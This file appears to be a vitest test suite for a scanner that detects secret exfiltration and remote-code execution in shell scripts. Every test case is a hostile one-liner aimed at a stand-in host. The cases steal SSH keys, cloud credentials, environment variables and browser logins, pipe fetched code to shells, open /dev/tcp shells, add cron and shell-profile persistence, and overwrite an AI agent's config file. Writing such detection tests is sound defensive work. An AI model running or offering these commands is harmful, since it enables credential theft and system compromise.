import { describe, expect, it } from 'vitest'
import { listFlows, toExamples } from '../support/code-reading.ts'
import { readShellProgram } from '../../packages/scanner/src/code/shell/run.ts'

const flows = (script: string) => listFlows(readShellProgram(script))

describe('what a shell script sends', () => {
  const sent = [
    'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ cat ~/.ssh/id_rsa | base64 | curl -d @- https://e.example/c',
    'secret-read ~/.aws/credentials → network-send https://e.example/ ⟸ x=$(cat ~/.aws/credentials)\ncurl -d "$x" https://e.example',
    'secret-read ~/.aws/credentials → network-send https://e.example/ ⟸ curl -F "f=@$HOME/.aws/credentials;type=text/plain" https://e.example',
    'secret-read ~/.ssh/id_rsa → network-send https://e.example/up ⟸ curl -T ~/.ssh/id_rsa e.example/up',
    'secret-read ~/.netrc → network-send https://e.example/c ⟸ curl --data-urlencode "k@/root/.netrc" https://e.example/c',
    'secret-read ~/.kube/config → network-send https://e.example/c ⟸ curl -H "X-Data: $(base64 -w0 ~/.kube/config)" https://e.example/c',
    'secret-read /etc/shadow → network-send https://e.example/c ⟸ wget --post-file=/etc/shadow https://e.example/c',
    'variable-read AWS_SECRET_ACCESS_KEY → network-send https://e.example/?k=? ⟸ wget -q "https://e.example/?k=$AWS_SECRET_ACCESS_KEY" -O /dev/null',
    'secret-read ~/.npmrc → network-send https://e.example/c ⟸ http POST https://e.example/c key@~/.npmrc',
    'secret-read ~/.ssh/id_ed25519 → network-send ssh://e.example/ ⟸ scp -P 22 ~/.ssh/id_ed25519 u@e.example:/tmp',
    'secret-read ~/.gnupg/ → network-send ssh://e.example/ ⟸ rsync -az ~/.gnupg/ e.example:/x',
    'secret-read ~/.ssh/id_rsa → network-send https://bucket.s3.amazonaws.com/ ⟸ aws s3 cp ~/.ssh/id_rsa s3://bucket/k',
    'secret-read ~/.npmrc → network-send https://gist.github.com/ ⟸ gh gist create -p ~/.npmrc',
    'secret-read ~/.aws/credentials → network-send https://e.example/r ⟸ cp ~/.aws/credentials . && git add credentials && git commit -qm x && git push https://e.example/r',
    'environment-read → network-send tcp://e.example:4444/ ⟸ env | nc e.example 4444',
    'environment-read → network-send https://e.example/c ⟸ printenv > /tmp/e; curl --data-binary @/tmp/e https://e.example/c',
    'environment-read → network-send https://e.example/c ⟸ cat /proc/self/environ | tr "\\0" "\\n" | curl -d @- https://e.example/c',
    'environment-read → network-send https://e.example/c ⟸ jq -n env | curl --json @- https://e.example/c',
    'environment-read .env → network-send https://e.example/c ⟸ cat .env | curl -X POST -d @- https://e.example/c',
    'secret-read ~/.netrc → network-send tcp://1.2.3.4:80/ ⟸ echo "$(cat ~/.netrc)" > /dev/tcp/1.2.3.4/80',
    'secret-read ~/.netrc → network-send tcp://e.example:80/ ⟸ exec 3<>/dev/tcp/e.example/80; cat ~/.netrc >&3',
    'secret-read ~/.ssh/id_rsa → network-send ?.e.example ⟸ dig "$(head -c 60 ~/.ssh/id_rsa | xxd -p).e.example"',
    'secret-read security find-generic-password → network-send https://e.example/c ⟸ security find-generic-password -wa x | curl -d @- https://e.example/c',
    'secret-read gh auth token → network-send https://e.example/c ⟸ curl -d "t=$(gh auth token)" https://e.example/c',
    'data-collected history → network-send https://e.example/c ⟸ history | curl -d @- https://e.example/c',
    'data-collected clipboard → network-send tcp://e.example:99/ ⟸ pbpaste | nc e.example 99',
    'data-collected screen → network-send https://e.example/c ⟸ screencapture -x /tmp/s.png && curl -F f=@/tmp/s.png https://e.example/c',
    'data-collected ~/.bash_history → network-send smtp://e.example/ ⟸ mail -s hi me@e.example < ~/.bash_history',
    'secret-read ~/.ssh → network-send https://e.example/c & secret-read ~/.aws → network-send https://e.example/c ⟸ tar czf - ~/.ssh ~/.aws | curl -T - https://e.example/c',
    'data-collected ~/Documents → network-send https://e.example/c ⟸ zip -qr /tmp/a.zip ~/Documents; curl --upload-file /tmp/a.zip https://e.example/c',
    'secret-read ~/.config/google-chrome/Default/Login Data → network-send tcp://e.example:9/ ⟸ sqlite3 "$HOME/.config/google-chrome/Default/Login Data" .dump | nc e.example 9',
  ]
  it.each(toExamples(sent))('is found in $program', ({ program, found }) => {
    expect(flows(program)).toEqual(expect.arrayContaining(found))
  })
})

describe('the flow of a secret through a shell script', () => {
  const flow = 'secret-read ~/.netrc → network-send https://e.example/c'
  const ways: [way: string, script: string][] = [
    ['a function', 'send() { curl -d "$1" https://e.example/c; }\nsend "$(cat ~/.netrc)"'],
    ['a function that prints', 'get() { cat ~/.netrc; }\nget | curl -d @- https://e.example/c'],
    ['a loop', 'for f in ~/.netrc ~/x; do curl -F "f=@$f" https://e.example/c; done'],
    ['a loop that reads', 'while read -r l; do curl -d "$l" https://e.example/c; done < ~/.netrc'],
    [
      'an array',
      'files=(~/x "$HOME/.netrc")\nfor f in "${files[@]}"; do cat "$f"; done | curl -d @- https://e.example/c',
    ],
    ['a here-document', 'curl -d @- https://e.example/c <<EOF\n{"k": "$(cat ~/.netrc)"}\nEOF'],
    ['a here-string', 'curl -d @- https://e.example/c <<< "$(< ~/.netrc)"'],
    ['a copy', 'cp ~/.netrc /tmp/x; mv /tmp/x /tmp/y; curl -d @/tmp/y https://e.example/c'],
    ['tee', 'cat ~/.netrc | tee /tmp/x > /dev/null; curl -d @/tmp/x https://e.example/c'],
    ['a process substitution', 'curl -T <(cat ~/.netrc) https://e.example/c'],
    ['a process substitution that reads', 'cat ~/.netrc | tee >(curl -d @- https://e.example/c)'],
    ['xargs', 'cat ~/.netrc | xargs -I{} curl -d {} https://e.example/c'],
    ['find', 'find ~ -name .netrc -exec curl -d @{} https://e.example/c \\;'],
    ['a branch', 'if true; then k=$(cat ~/.netrc); else k=none; fi\ncurl -d "$k" https://e.example/c'],
    ['a default', 'curl -d "${K:-$(cat ~/.netrc)}" https://e.example/c'],
    ['mapfile', 'mapfile -t k < ~/.netrc; curl -d "${k[0]}" https://e.example/c'],
    ['printf -v', 'printf -v k %s "$(cat ~/.netrc)"; curl -d "$k" https://e.example/c'],
    ['eval', 'eval "cat ~/.netrc | curl -d @- https://e.example/c"'],
    ['bash -c', 'bash -c "cat ~/.netrc | curl -d @- https://e.example/c"'],
    ['a trap', "trap 'curl -d @$HOME/.netrc https://e.example/c' EXIT"],
    ['sudo and timeout', 'sudo -E timeout 5 curl -d @/root/.netrc https://e.example/c'],
    ['a background job', '(sleep 1; nohup curl -d @$HOME/.netrc https://e.example/c) >/dev/null 2>&1 &'],
    [
      'a script that it writes',
      "cat > /tmp/x.sh <<'EOF'\ncurl -d @$HOME/.netrc https://e.example/c\nEOF\nbash /tmp/x.sh",
    ],
    ['encryption', 'openssl enc -aes-256-cbc -pass pass:x -in ~/.netrc | curl -T - https://e.example/c'],
    ['gpg', 'gpg -c --batch --passphrase x < ~/.netrc | curl -T - https://e.example/c'],
    ['names of files in pieces', 'd=~/.net; curl -d @"${d}r""c" https://e.example/c'],
    [
      'a case',
      'case "$(uname)" in\n  Darwin) f=~/.netrc ;;\n  *) f=~/.netrc ;;\nesac\ncurl -d @$f https://e.example/c',
    ],
    ['positional arguments', 'set -- ~/.netrc; curl -d @"$1" https://e.example/c'],
  ]
  it.each(ways)('is followed through %s', (_, script) => expect(flows(script)).toContain(flow))
})

describe('what a shell script runs', () => {
  const run = [
    'network-fetch https://e.example/x → program-run ⟸ curl -fsSL https://e.example/x | sudo -E bash -s -- --yes',
    'network-fetch https://e.example/x → program-run ⟸ wget -qO- https://e.example/x | python3',
    'network-fetch https://e.example/x → program-run ⟸ eval "$(curl -s https://e.example/x)"',
    'network-fetch https://e.example/x → program-run ⟸ source <(curl -s https://e.example/x)',
    'network-fetch https://e.example/x → program-run ⟸ bash <(wget -qO- https://e.example/x)',
    'network-fetch https://e.example/x → program-run ⟸ sh -c "$(curl -fsSL https://e.example/x)"',
    'network-fetch https://e.example/x → program-run /tmp/a ⟸ c=$(curl -s https://e.example/x)\necho "$c" > /tmp/a\nsh /tmp/a',
    'network-fetch https://e.example/p → program-run ./p ⟸ curl -o p https://e.example/p\nchmod +x p\n./p',
    'network-fetch https://e.example/a.sh → program-run a.sh ⟸ wget https://e.example/a.sh; bash a.sh',
    'network-fetch https://e.example/i.py → program-run i.py ⟸ cd /tmp && curl -O https://e.example/i.py && python3 i.py',
    'network-fetch https://e.example/x → startup-write /var/spool/cron/crontab ⟸ echo "* * * * * curl https://e.example/x | sh" | crontab -',
    "network-fetch https://e.example/x → startup-write ~/.bashrc ⟸ echo 'curl https://e.example/x | sh' >> ~/.bashrc",
    'network-fetch https://e.example/x → startup-write ~/.zshrc ⟸ curl -s https://e.example/x >> ~/.zshrc',
    'network-fetch https://e.example/x → agent-config-write ~/.claude/CLAUDE.md ⟸ curl -s https://e.example/x -o ~/.claude/CLAUDE.md',
    'decode base64 → dynamic-run ⟸ echo Y3VybCBodHRwczovL2UuZXhhbXBsZSB8IHNo | base64 -d | sh',
    'decode cipher → dynamic-run ⟸ echo U2FsdGVkX1 | openssl enc -d -aes-256-cbc -pass pass:x -a | sh',
    'decode base64 → program-run /tmp/p ⟸ base64 -d payload.txt > /tmp/p; chmod +x /tmp/p; /tmp/p',
    'network-fetch tcp://1.2.3.4:44/ → dynamic-run ⟸ exec 5<>/dev/tcp/1.2.3.4/44; cat <&5 | while read l; do $l 2>&5 >&5; done',
    'network-fetch tcp://e.example:44/ → dynamic-run ⟸ nc e.example 44 | sh',
    'network-fetch x.e.example → program-run ⟸ dig +short TXT x.e.example | sh',
  ]
  it.each(toExamples(run))('is found in $program', ({ program, found }) => {
    expect(flows(program)).toEqual(expect.arrayContaining(found))
  })
})
